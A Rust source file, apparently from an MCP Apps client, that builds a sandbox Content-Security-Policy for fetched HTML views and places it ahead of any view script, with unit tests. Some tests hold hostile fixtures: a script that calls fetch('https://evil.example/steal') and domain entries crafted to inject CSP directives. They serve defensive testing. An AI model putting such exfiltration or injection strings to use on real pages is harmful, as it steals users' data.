//! A view's HTML as `resources/read` returns it, the `_meta.ui` that comes with it, and the
//! Content-Security-Policy the sandbox runs it under.

use base64::Engine;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// The MIME type of an MCP Apps view.
pub const VIEW_MIME_TYPE: &str = "text/html;profile=mcp-app";

/// The policy for a view that declares no domains (the specification's default): inline script
/// and style only, `data:` images and media, no network.
pub const DEFAULT_VIEW_CSP: &str = "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; media-src 'self' data:; font-src 'self' data:; connect-src 'none'; frame-src 'none'; base-uri 'self'; object-src 'none'; form-action 'none'";

/// One fetched view, ready for the sandbox.
#[derive(Clone, Debug, PartialEq)]
pub struct ViewResource {
    pub uri: String,
    pub html: String,
    pub meta: ViewMeta,
}

/// `_meta.ui` of a view: what it may reach and how it would like to be shown.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ViewMeta {
    #[serde(default)]
    pub csp: ViewCsp,
    #[serde(default)]
    pub permissions: ViewPermissions,
    #[serde(default)]
    pub prefers_border: Option<bool>,
    #[serde(default)]
    pub domain: Option<String>,
}

/// The domains a view declares, one list per kind of reach.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ViewCsp {
    #[serde(default)]
    pub connect_domains: Vec<String>,
    #[serde(default)]
    pub resource_domains: Vec<String>,
    #[serde(default)]
    pub frame_domains: Vec<String>,
    #[serde(default)]
    pub base_uri_domains: Vec<String>,
}

/// Device permissions a view asks for; each needs the person's yes before the frame gets it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct ViewPermissions {
    #[serde(default, deserialize_with = "asked")]
    pub camera: bool,
    #[serde(default, deserialize_with = "asked")]
    pub microphone: bool,
    #[serde(default, deserialize_with = "asked")]
    pub geolocation: bool,
    #[serde(default, deserialize_with = "asked")]
    pub clipboard_write: bool,
}

impl ViewPermissions {
    /// What the view asks for: (the `allow` attribute's feature, words for the person).
    pub fn asked(&self) -> Vec<(&'static str, &'static str)> {
        [
            (self.camera, "camera", "the camera"),
            (self.microphone, "microphone", "the microphone"),
            (self.geolocation, "geolocation", "your location"),
            (self.clipboard_write, "clipboard-write", "writing to your clipboard"),
        ]
        .into_iter()
        .filter_map(|(asked, feature, words)| asked.then_some((feature, words)))
        .collect()
    }

    /// The frame's `allow` attribute granting what the view asks (to its own opaque origin, which
    /// no allowlist can name but `*`); empty when it asks nothing.
    pub fn allow_attribute(&self) -> String {
        self.asked().iter().map(|(feature, _)| format!("{feature} *")).collect::<Vec<_>>().join("; ")
    }
}

/// A permission is asked for by `{}` (the specification's shape) or `true`.
fn asked<'de, D: serde::Deserializer<'de>>(deserializer: D) -> Result<bool, D::Error> {
    let value = Value::deserialize(deserializer)?;
    Ok(!matches!(value, Value::Null | Value::Bool(false)))
}

impl ViewCsp {
    /// The policy for this view: the default, each directive widened only by the domains declared
    /// for it. An entry that could break out of its directive (`;`, quotes, whitespace, a comma)
    /// or that would allow everything (`*`) is dropped.
    pub fn policy(&self) -> String {
        let resources = safe_sources(&self.resource_domains);
        let with = |base: &str, extra: &[&str]| {
            let mut sources = vec![base.to_owned()];
            sources.extend(extra.iter().map(|s| (*s).to_owned()));
            sources.join(" ")
        };
        let connect = safe_sources(&self.connect_domains);
        let frames = safe_sources(&self.frame_domains);
        let base_uris = safe_sources(&self.base_uri_domains);
        let list_or = |list: &[&str], fallback: &str| if list.is_empty() { fallback.to_owned() } else { list.join(" ") };
        [
            "default-src 'none'".to_owned(),
            format!("script-src {}", with("'self' 'unsafe-inline'", &resources)),
            format!("style-src {}", with("'self' 'unsafe-inline'", &resources)),
            format!("img-src {}", with("'self' data:", &resources)),
            format!("media-src {}", with("'self' data:", &resources)),
            format!("font-src {}", with("'self' data:", &resources)),
            format!("connect-src {}", list_or(&connect, "'none'")),
            format!("frame-src {}", list_or(&frames, "'none'")),
            format!("base-uri {}", list_or(&base_uris, "'self'")),
            "object-src 'none'".to_owned(),
            "form-action 'none'".to_owned(),
        ]
        .join("; ")
    }
}

impl ViewResource {
    /// The document the sandbox renders: the view's HTML with its policy as the first element of
    /// its `<head>` (before any script of the view can run).
    pub fn sandboxed_document(&self) -> String {
        with_policy(&self.html, &self.meta.csp.policy())
    }
}

/// `html` with a `<meta http-equiv="Content-Security-Policy">` for `policy` as its first element:
/// after the leading whitespace, comments and doctype only, so the parser puts it first in the head
/// (made implicitly when needed) before any of the view's scripts, and nothing of the view (a
/// comment, a script, an attribute holding `<head>`) can decide where it lands. The view's own
/// `<html>` and `<head>` tags that follow are absorbed by the parser: `<html>`'s attributes still
/// apply, `<head>`'s are dropped.
pub fn with_policy(html: &str, policy: &str) -> String {
    let content = policy.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;");
    let meta = format!("<meta http-equiv=\"Content-Security-Policy\" content=\"{content}\">");
    // A parser that kept a byte-order mark would read it as text, which opens the body before the meta.
    let html = html.strip_prefix('\u{feff}').unwrap_or(html);
    let at = prologue_end(html);
    format!("{}{meta}{}", &html[..at], &html[at..])
}

/// Where the prologue ends: the whitespace, complete comments and doctype the HTML parser reads
/// before any element. An unterminated comment or doctype runs to the end of the document, so the
/// prologue stops before it.
fn prologue_end(html: &str) -> usize {
    let mut end = 0;
    loop {
        let rest = &html[end..];
        let markup = rest.trim_start_matches(['\t', '\n', '\x0c', '\r', ' ']);
        let blank = rest.len() - markup.len();
        match comment_length(markup).or_else(|| doctype_length(markup)) {
            Some(length) => end += blank + length,
            None => return end + blank,
        }
    }
}

/// The length of the complete comment `markup` starts with, ended where the HTML tokenizer ends it:
/// `<!-->` and `<!--->` are whole comments, and `--!>` closes one as `-->` does.
fn comment_length(markup: &str) -> Option<usize> {
    let body = markup.strip_prefix("<!--")?;
    if body.starts_with('>') {
        return Some("<!-->".len());
    }
    if body.starts_with("->") {
        return Some("<!--->".len());
    }
    let close = ["-->", "--!>"].iter().filter_map(|close| body.find(close).map(|at| at + close.len())).min()?;
    Some("<!--".len() + close)
}

/// The length of the complete doctype `markup` starts with (any case); its first `>` ends it, even
/// inside quotes.
fn doctype_length(markup: &str) -> Option<usize> {
    let opener = markup.get(.."<!doctype".len())?;
    if !opener.eq_ignore_ascii_case("<!doctype") {
        return None;
    }
    markup.find('>').map(|at| at + 1)
}

fn safe_sources(entries: &[String]) -> Vec<&str> {
    entries
        .iter()
        .map(String::as_str)
        .filter(|entry| {
            !entry.is_empty()
                && *entry != "*"
                && !entry.chars().any(|c| c.is_whitespace() || c.is_control() || matches!(c, ';' | ',' | '\'' | '"'))
        })
        .collect()
}

/// Why a `resources/read` answer is not a view this client can show.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ViewError {
    #[error("the server returned nothing for <{0}>")]
    Empty(String),
    #[error("<{uri}> is {found}, not an MCP Apps view ({VIEW_MIME_TYPE})")]
    NotHtml { uri: String, found: String },
    #[error("<{0}> has neither text nor a readable base64 blob")]
    NoText(String),
}

/// The view in a `resources/read` answer's `contents` (its first part). `listed_meta` is the
/// `_meta` of the `resources/list` entry, used when the content item has none.
pub fn read_view(uri: &str, contents: &[Value], listed_meta: Option<&Value>) -> Result<ViewResource, ViewError> {
    let part = contents.first().ok_or_else(|| ViewError::Empty(uri.to_owned()))?;
    let mime = part.get("mimeType").and_then(Value::as_str).unwrap_or_default();
    if !mime.replace(' ', "").to_ascii_lowercase().starts_with("text/html") {
        return Err(ViewError::NotHtml { uri: uri.to_owned(), found: if mime.is_empty() { "untyped".to_owned() } else { mime.to_owned() } });
    }
    let html = match (part.get("text").and_then(Value::as_str), part.get("blob").and_then(Value::as_str)) {
        (Some(text), _) => text.to_owned(),
        (None, Some(blob)) => base64::engine::general_purpose::STANDARD
            .decode(blob.trim())
            .ok()
            .and_then(|bytes| String::from_utf8(bytes).ok())
            .ok_or_else(|| ViewError::NoText(uri.to_owned()))?,
        (None, None) => return Err(ViewError::NoText(uri.to_owned())),
    };
    let ui_meta = |meta: Option<&Value>| meta.and_then(|meta| meta.get("ui")).cloned();
    let meta = ui_meta(part.get("_meta"))
        .or_else(|| ui_meta(listed_meta))
        .and_then(|ui| serde_json::from_value::<ViewMeta>(ui).ok())
        .unwrap_or_default();
    Ok(ViewResource { uri: uri.to_owned(), html, meta })
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn no_declared_domains_is_the_default_policy() {
        assert_eq!(ViewCsp::default().policy(), DEFAULT_VIEW_CSP);
    }

    #[test]
    fn declared_domains_widen_only_their_directive() {
        let csp = ViewCsp {
            connect_domains: vec!["https://api.example.com".into()],
            resource_domains: vec!["https://cdn.example.com".into()],
            ..ViewCsp::default()
        };
        let policy = csp.policy();
        assert!(policy.contains("connect-src https://api.example.com;"));
        assert!(policy.contains("script-src 'self' 'unsafe-inline' https://cdn.example.com;"));
        assert!(policy.contains("frame-src 'none'"));
        assert!(!policy.contains("https://api.example.com https"), "connect domains stay out of other directives");
        assert!(policy.contains("object-src 'none'"));
    }

    #[test]
    fn entries_that_could_inject_a_directive_are_dropped() {
        let csp = ViewCsp {
            connect_domains: vec![
                "https://ok.example".into(),
                "https://a.example; script-src *".into(),
                "'unsafe-eval'".into(),
                "https://b.example\nx".into(),
                "\"x\"".into(),
                "*".into(),
                "https://c.example,https://d.example".into(),
            ],
            ..ViewCsp::default()
        };
        let policy = csp.policy();
        assert!(policy.contains("connect-src https://ok.example;"), "{policy}");
        for bad in ["a.example", "unsafe-eval", "b.example", "\"x\"", "c.example"] {
            assert!(!policy.contains(bad), "{bad} leaked into {policy}");
        }
        assert_eq!(policy.matches("script-src").count(), 1);
    }

    /// `with_policy(html, "x")` is `expected` with `{META}` standing for the policy's meta.
    fn check(html: &str, expected: &str) {
        let meta = "<meta http-equiv=\"Content-Security-Policy\" content=\"x\">";
        assert_eq!(with_policy(html, "x"), expected.replace("{META}", meta), "for {html:?}");
    }

    #[test]
    fn the_policy_is_the_first_element_after_the_doctype() {
        // Before the view's own `<html>` (it used to go inside `<head>`): the parser opens html and
        // head for the meta, merges the view's `<html>` into them and ignores its `<head>` tag.
        check(
            "<!DOCTYPE html><HTML lang=en><Head data-x=\"1\"><script>evil()</script></head><body></body></html>",
            "<!DOCTYPE html>{META}<HTML lang=en><Head data-x=\"1\"><script>evil()</script></head><body></body></html>",
        );
        check("<!doctype html>\n<html><head><title>t</title>", "<!doctype html>\n{META}<html><head><title>t</title>");
        check("<html><body><header>h</header></body></html>", "{META}<html><body><header>h</header></body></html>");
        check("<p>bare</p>", "{META}<p>bare</p>");
        check("", "{META}");
        assert!(with_policy("<head>", "a\"b").contains("content=\"a&quot;b\""));
    }

    #[test]
    fn a_comment_before_the_document_cannot_hide_the_policy() {
        let hostile = "<!--<head>--><html><head><script>fetch('https://evil.example/steal')</script></head></html>";
        let out = with_policy(hostile, "x");
        let meta_at = out.find("<meta").expect("a meta");
        assert!(out.find("-->").is_some_and(|comment_end| comment_end < meta_at), "the meta is out of the comment: {out}");
        assert!(out.find("<script").is_some_and(|script| meta_at < script), "the meta comes before the script: {out}");
        check(hostile, "<!--<head>-->{META}<html><head><script>fetch('https://evil.example/steal')</script></head></html>");
    }

    #[test]
    fn comments_end_where_the_parser_ends_them() {
        check("<!--><head><script>s()</script>", "<!-->{META}<head><script>s()</script>");
        check("<!---><head><script>s()</script>", "<!--->{META}<head><script>s()</script>");
        check("<!---->\n<!-- a --!><script>s()</script>", "<!---->\n<!-- a --!>{META}<script>s()</script>");
        check("<!-- <head> -- - --><script>s()</script>", "<!-- <head> -- - -->{META}<script>s()</script>");
        check("\u{feff} <!-- a -->\n<!DocType html><!--b--><script>", " <!-- a -->\n<!DocType html><!--b-->{META}<script>");
        // The parser ends a doctype at its first `>`, even inside quotes.
        check("<!DOCTYPE html SYSTEM \"<head>\"><script>", "<!DOCTYPE html SYSTEM \"<head>{META}\"><script>");
    }

    #[test]
    fn an_unterminated_comment_gets_the_policy_before_it() {
        check("<!-- <head><script>s()</script>", "{META}<!-- <head><script>s()</script>");
        check("<!DOCTYPE html><!-- <head><script>s()</script>", "<!DOCTYPE html>{META}<!-- <head><script>s()</script>");
    }

    #[test]
    fn no_markup_of_the_view_decides_where_the_policy_goes() {
        check("<script>s()</script><html><head>", "{META}<script>s()</script><html><head>");
        check("<html data-x=\"<head>\"><script>s()</script>", "{META}<html data-x=\"<head>\"><script>s()</script>");
        check("<?xml version=\"1.0\"?><head><script>s()</script>", "{META}<?xml version=\"1.0\"?><head><script>s()</script>");
    }

    #[test]
    fn permissions_asked_become_an_allow_attribute_and_words_for_the_person() {
        let asked: ViewPermissions = serde_json::from_value(json!({"camera": {}, "clipboardWrite": true, "microphone": false})).unwrap();
        assert_eq!(asked.asked(), [("camera", "the camera"), ("clipboard-write", "writing to your clipboard")]);
        assert_eq!(asked.allow_attribute(), "camera *; clipboard-write *");
        assert_eq!(ViewPermissions::default().allow_attribute(), "");
    }

    #[test]
    fn reads_text_blob_and_meta() {
        let contents = vec![json!({"uri": "ui://a", "mimeType": VIEW_MIME_TYPE, "text": "<p>hi</p>",
            "_meta": {"ui": {"csp": {"connectDomains": ["https://x.example"]}, "permissions": {"camera": {}}, "prefersBorder": true}}})];
        let view = read_view("ui://a", &contents, None).unwrap();
        assert_eq!(view.html, "<p>hi</p>");
        assert_eq!(view.meta.csp.connect_domains, vec!["https://x.example"]);
        assert!(view.meta.permissions.camera && !view.meta.permissions.microphone);
        assert_eq!(view.meta.prefers_border, Some(true));

        let blob = vec![json!({"uri": "ui://b", "mimeType": VIEW_MIME_TYPE, "blob": "PGI+YjwvYj4="})];
        let listed = json!({"ui": {"domain": "https://b.example"}});
        let view = read_view("ui://b", &blob, Some(&listed)).unwrap();
        assert_eq!(view.html, "<b>b</b>");
        assert_eq!(view.meta.domain.as_deref(), Some("https://b.example"));
    }

    #[test]
    fn non_views_are_refused_with_the_reason() {
        let json_part = vec![json!({"uri": "ui://a", "mimeType": "application/json", "text": "{}"})];
        assert!(read_view("ui://a", &json_part, None).unwrap_err().to_string().contains("application/json, not an MCP Apps view"));
        assert_eq!(read_view("ui://a", &[], None), Err(ViewError::Empty("ui://a".into())));
        let no_text = vec![json!({"uri": "ui://a", "mimeType": VIEW_MIME_TYPE})];
        assert_eq!(read_view("ui://a", &no_text, None), Err(ViewError::NoText("ui://a".into())));
    }
}
